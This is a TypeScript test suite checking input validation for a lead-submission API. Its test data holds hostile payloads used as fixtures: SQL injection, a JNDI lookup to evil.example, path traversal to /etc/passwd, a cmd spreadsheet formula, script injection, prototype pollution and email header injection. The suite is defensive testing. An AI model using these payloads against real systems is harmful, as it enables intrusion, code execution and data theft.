import { paths } from "../../src/domain/paths"
import { leadTestHarness } from "../../src/testing/use-lead-test-harness"
import { SITE, wire } from "../../src/harness/lead-test-harness"
import { keyHeader } from "../../src/harness/posts"
import { quoteTestDriver } from "../../src/harness/quote-test-driver"
import { quoteRules } from "./submit-quote"

const harness = leadTestHarness()
const driver = quoteTestDriver(harness)

let sent = 0
async function send(body: string): Promise<Response> {
  const headers = { "content-type": "application/json", ...keyHeader(`request-number-${(sent += 1)}`) }
  const request = new Request(SITE + paths.api.quotes, { method: "POST", headers, body })
  const answer = await driver.take(request, { price: quoteRules.price })
  await harness.settle()
  return answer
}
const sendWire = (changes: object) => send(JSON.stringify(wire(changes)))

/** The fields that an answer names. */
async function fieldsOf(answer: Response): Promise<string[]> {
  const text = await answer.text()
  expect(text).not.toMatch(/\bat .+:\d+:\d+|TypeError|RangeError/)
  return JSON.parse(text).errors.map((error: { field: string }) => error.field)
}

const deliveredField = (field: string): unknown => JSON.parse(harness.webhook.hits[0]?.body ?? "{}").data.request[field]

const nested = (depth: number, open: string, close: string) => open.repeat(depth) + close.repeat(depth)

test.each([
  ["invalid JSON", "{"],
  ["nothing", ""],
  ["a byte-order mark", `\uFEFF${JSON.stringify(wire())}`],
  ["a key that comes twice", `{"name":"Bo",${JSON.stringify(wire()).slice(1)}`],
  ["NaN", '{"price":NaN}'],
])("a body that is %s is answered 400, and nothing is kept", async (_, body) => {
  const answer = await send(body)
  expect(answer.status).toBe(400)
  expect(await fieldsOf(answer)).toEqual([""])
  expect(harness.blobs.keys("lead")).toEqual([])
})

test.each([
  ["10,000 lists in each other", nested(10_000, "[", "]")],
  ["5,000 objects in each other", nested(5_000, '{"a":', "}").replace('"a":}', '"a":1}')],
  ["a number", "1"],
  ["null", "null"],
  ["a list", "[1,2]"],
])("a body that is %s is answered 422, and nothing is kept", async (_, body) => {
  const answer = await send(body)
  expect(answer.status).toBe(422)
  await fieldsOf(answer)
  expect(harness.blobs.keys("lead")).toEqual([])
})

test.each<[string, object, string]>([
  ["a list for a text", { name: ["Bo"] }, "name"],
  ["a number for a text", { name: 1 }, "name"],
  ["an object for a text", { email: { a: 1 } }, "email"],
  ["a boolean for a text", { postcode: true }, "postcode"],
  ["a text that is too long", { name: "n".repeat(201) }, "name"],
  ["a note that is too long", { note: "n".repeat(1_001) }, "note"],
  ["a campaign that is too long", { attribution: { utm_source: "x".repeat(5_000) } }, "attribution.utm_source"],
  ["a thank-you page elsewhere", { thankYouPageRoute: "//evil.example" }, "thankYouPageRoute"],
  ["a state we do not act in", { state: "WA" }, "state"],
  ["a carriage return and a line feed in the name", { name: "Bo\r\nBcc: all@evil.example" }, "name"],
  ["a line feed in the email", { email: "bo@example.com\nBcc: all@evil.example" }, "email"],
  ["NUL in the name", { name: "Bo\0" }, "name"],
  ["next line (0x85) in the name", { name: "Bo\u0085Li" }, "name"],
  ["a lone surrogate in the name", { name: "Bo\ud800" }, "name"],
  ["an email without a dot", { email: "a@b" }, "email"],
  ["an email with two dots", { email: "a..b@c.com" }, "email"],
  ["a quoted email", { email: '"a b"@c.com' }, "email"],
  ["an email and a line feed", { email: "a@b.com\n" }, "email"],
  ["a phone that cannot be rung, when a call was asked for", { phone: "0000000000" }, "phone"],
])("%s is answered 422 at its field", async (_, changes, field) => {
  const answer = await sendWire(changes)
  expect(answer.status).toBe(422)
  expect(await fieldsOf(answer)).toEqual([field])
  expect(harness.blobs.keys("lead")).toEqual([])
})

test("1,000 campaign keys are answered 422, each by name", async () => {
  const attribution = Object.fromEntries(Array.from({ length: 1_000 }, (_, n) => [`utm_${n}`, "x"]))
  const answer = await sendWire({ attribution })
  expect(answer.status).toBe(422)
  expect(await fieldsOf(answer)).toHaveLength(1_000)
})

test.each([
  '{"__proto__":{"polluted":true},',
  '{"constructor":{"prototype":{"polluted":true}},',
  '{"attribution":{"__proto__":{"polluted":true}},',
])("%s… is answered 422 and changes no prototype", async start => {
  const answer = await send(start + JSON.stringify(wire()).slice(1))
  expect(answer.status).toBe(422)
  expect((await fieldsOf(answer))[0]).toMatch(/__proto__|constructor/)
  expect({}).not.toHaveProperty("polluted")
})

test.each([
  ["o'brien@example.com", "o'brien@example.com"],
  ["mai+quotes@example.com", "mai+quotes@example.com"],
  ["mai@xn--bcher-kva.example", "mai@xn--bcher-kva.example"],
  [`${"a".repeat(64)}@example.com`, `${"a".repeat(64)}@example.com`],
])("the email %s is taken", async (typed, email) => {
  expect((await sendWire({ email: typed })).status).toBe(201)
  expect(deliveredField("email")).toBe(email)
})

test.each([
  ["0412 345 678", "+61412345678"],
  ["+61 412 345 678", "+61412345678"],
  ["1300 975 707", "+611300975707"],
  ["13 11 14", "+61131114"],
  ["(02) 9876 5432", "+61298765432"],
  ["+64 21 123 4567", "+64211234567"],
  ["٠٤١٢٣٤٥٦٧٨", "+61412345678"],
  ["0000000000", null],
  ["ask my sister", null],
])("the phone %s, when no call was asked for, is kept as typed and read as %p", async (typed, e164) => {
  expect((await sendWire({ contactBy: "email", phone: typed })).status).toBe(201)
  expect(deliveredField("phone")).toEqual({ typed, e164 })
})

test.each([
  "'; DROP TABLE leads; --",
  "${process.env.LEAD_WEBHOOK_SECRET}",
  "{{7*7}}",
  "../../../etc/passwd",
  "${jndi:ldap://evil.example/a}",
  "=cmd|'/C calc'!A0",
  "+1",
  "@SUM(1+1)",
  "<script>alert(1)</script>",
])("the note %s is kept and sent as it is, and names nothing in the store", async note => {
  expect((await sendWire({ note })).status).toBe(201)
  expect(deliveredField("note")).toBe(note)
  const keys = ["lead", "quote", "pending", "done"].flatMap(harness.blobs.keys)
  expect(keys.every(key => /^[\w-]{26}$/.test(key))).toBe(true)
})

test("a megabyte for a validator is refused before any validator sees it", async () => {
  expect((await sendWire({ email: `a${".".repeat(1_000_000)}@x.com` })).status).toBe(413)
})
